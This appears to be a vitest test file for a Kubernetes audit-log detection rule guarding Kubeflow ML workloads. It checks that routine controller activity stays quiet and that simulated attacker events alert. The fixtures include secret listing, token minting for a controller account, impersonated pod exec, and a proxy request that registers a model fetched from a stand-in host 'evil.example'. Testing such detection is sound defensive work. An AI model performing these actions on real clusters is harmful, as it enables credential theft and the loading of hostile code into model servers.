import { describe, expect, it } from 'vitest';
import { auditRelevance } from '../../../connectors/kubeflow/filter.js';
import { auditEvent } from './helpers.js';
import { normAudit as norm, workloadAccessAlerts as alerts, MALLORY, saUser as sa } from './audit-harness.js';

type Obj = Record<string, unknown>;
const NS = 'kubeflow-user-alice';
const watched = (ns: string | undefined) => !!ns && (ns === 'kubeflow' || ns.startsWith('kubeflow-'));

const exec = (user: Obj, namespace: string, pod: string, query: string) =>
  auditEvent({ verb: 'create', user, objectRef: { resource: 'pods', namespace, name: pod, apiVersion: 'v1', subresource: 'exec' }, requestURI: `/api/v1/namespaces/${namespace}/pods/${pod}/exec?${query}`, responseStatus: { metadata: {}, code: 101 } });

describe('platform.ml_workload_access: what a real cluster does every day', () => {
  const STEP = 'churn-pipeline-x7k2p-system-container-impl-1843591523';
  it("Argo's workflow-controller signalling a step's containers (stop, terminate, deadline, sidecar kill) is quiet", () => {
    // workflow/signal: argoexec kill <sig> 1 where /var/run/argo is mounted, else /bin/sh -c "kill -<sig> 1".
    expect(alerts([
      exec(sa('kubeflow', 'argo'), NS, STEP, 'command=%2Fvar%2Frun%2Fargo%2Fargoexec&command=kill&command=15&command=1&container=main&stderr=true&stdout=true'),
      exec(sa('argo', 'argo-workflow-controller'), NS, STEP, 'command=%2Fbin%2Fsh&command=-c&command=kill+-9+1&container=wait&stderr=true&stdout=true'),
    ])).toEqual([]);
  });
  it('but a person running the same kill, or the controller running anything else, still alerts', () => {
    expect(alerts([
      exec(sa('kubeflow', 'argo'), NS, STEP, 'command=sh&command=-c&command=cat+%2Ftmp%2Foutputs%2Fmodel&container=main&stderr=true&stdout=true'),
    ])).toHaveLength(1);
  });
  it('HPA scaling a predictor (deployments/scale) is quiet', () => {
    expect(alerts([
      auditEvent({ level: 'Request', verb: 'patch', user: { username: 'system:serviceaccount:kube-system:horizontal-pod-autoscaler' }, objectRef: { resource: 'deployments', namespace: NS, name: 'churn-predictor', apiGroup: 'apps', apiVersion: 'v1', subresource: 'scale' }, requestURI: `/apis/apps/v1/namespaces/${NS}/deployments/churn-predictor/scale`, requestObject: { spec: { replicas: 3 } } }),
    ])).toEqual([]);
  });
  it('a CI service account running kubectl rollout restart (Request level) is quiet', () => {
    expect(alerts([
      auditEvent({ level: 'Request', verb: 'patch', user: sa('ci', 'deployer'), objectRef: { resource: 'deployments', namespace: NS, name: 'churn-predictor', apiGroup: 'apps', apiVersion: 'v1' }, requestURI: `/apis/apps/v1/namespaces/${NS}/deployments/churn-predictor?fieldManager=kubectl-rollout`, requestObject: { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-25T10:00:00Z' } } } } } }),
    ])).toEqual([]);
  });
});

describe('platform.ml_workload_access: evasions', () => {
  it("listing a model server namespace's secrets (kubectl get secrets -o yaml) returns storage-config too, and alerts", () => {
    const list = auditEvent({ verb: 'list', user: MALLORY, objectRef: { resource: 'secrets', namespace: NS, apiVersion: 'v1' }, requestURI: `/api/v1/namespaces/${NS}/secrets` });
    const a = alerts([list]);
    expect(a).toHaveLength(1);
    expect(a[0]!.summary).toContain(`listed the secrets of namespace ${NS}, storage-config among them`);
  });
  it('a list filtered to other secrets (helm release secrets by label, one name by field) is quiet', () => {
    expect(alerts([
      auditEvent({ verb: 'list', user: MALLORY, objectRef: { resource: 'secrets', namespace: NS, apiVersion: 'v1' }, requestURI: `/api/v1/namespaces/${NS}/secrets?labelSelector=owner%3Dhelm%2Cname%3Dchurn` }),
      auditEvent({ verb: 'list', user: MALLORY, objectRef: { resource: 'secrets', namespace: NS, apiVersion: 'v1' }, requestURI: `/api/v1/namespaces/${NS}/secrets?fieldSelector=metadata.name%3Dmy-creds` }),
    ])).toEqual([]);
  });
  it('a list or watch by the KServe controller is quiet', () => {
    expect(alerts([
      auditEvent({ verb: 'watch', user: sa('kserve', 'kserve-controller-manager'), objectRef: { resource: 'secrets', namespace: NS, apiVersion: 'v1' }, requestURI: `/api/v1/namespaces/${NS}/secrets?watch=true` }),
    ])).toEqual([]);
  });
  it("a token minted for KServe's controller account (its own namespace, not watched) is kept by the filter and alerts", () => {
    const tok = auditEvent({ verb: 'create', user: MALLORY, objectRef: { resource: 'serviceaccounts', namespace: 'kserve', name: 'kserve-controller-manager', apiVersion: 'v1', subresource: 'token' }, requestURI: '/api/v1/namespaces/kserve/serviceaccounts/kserve-controller-manager/token', responseStatus: { metadata: {}, code: 201 } });
    expect(auditRelevance(tok as never, watched).keep).toBe(true);
    expect(alerts([tok])).toHaveLength(1);
  });
  it('an exec by an impersonating user is judged on the person, and names the impersonated account', () => {
    const e = exec(MALLORY, NS, 'fraud-predictor-00001-deployment-7d9f8c6b5-x2x9z', 'command=sh&container=kserve-container');
    e.impersonatedUser = { username: 'system:serviceaccount:kserve:kserve-controller-manager', groups: ['system:serviceaccounts'] };
    const a = alerts([e], { 'platform.ml_workload_access': { exempt: ['system:serviceaccount:kserve:*'] } });
    expect(a).toHaveLength(1);
    expect(a[0]!.details).toMatchObject({ identity: 'mallory@corp.example', impersonated: 'system:serviceaccount:kserve:kserve-controller-manager' });
  });
});

describe('platform.ml_workload_access: the API server pod proxy', () => {
  const POD = 'fraud-predictor-00001-deployment-7d9f8c6b5-x2x9z';
  const proxy = (verb: string, path: string) => auditEvent({ verb, user: MALLORY, objectRef: { resource: 'pods', namespace: NS, name: `${POD}:8081`, apiVersion: 'v1', subresource: 'proxy' }, requestURI: `/api/v1/namespaces/${NS}/pods/${POD}:8081/proxy/${path}` });
  it("a write through the proxy into a model server (TorchServe's management API registering a model) alerts; a read does not", () => {
    const [reg] = norm([proxy('create', 'models?url=https%3A%2F%2Fevil.example%2Fm.mar')]);
    expect(reg!.details?.ml_workload).toMatchObject({ kind: 'model_server', endpoint: `${NS}/fraud` });
    const a = alerts([proxy('create', 'models?url=https%3A%2F%2Fevil.example%2Fm.mar'), proxy('get', 'metrics')]);
    expect(a).toHaveLength(1);
    expect(a[0]!.details).toMatchObject({ access: 'proxy', endpoint: `${NS}/fraud` });
    expect(a[0]!.summary).toContain("sent a create request through the API server's proxy to pod");
  });
});
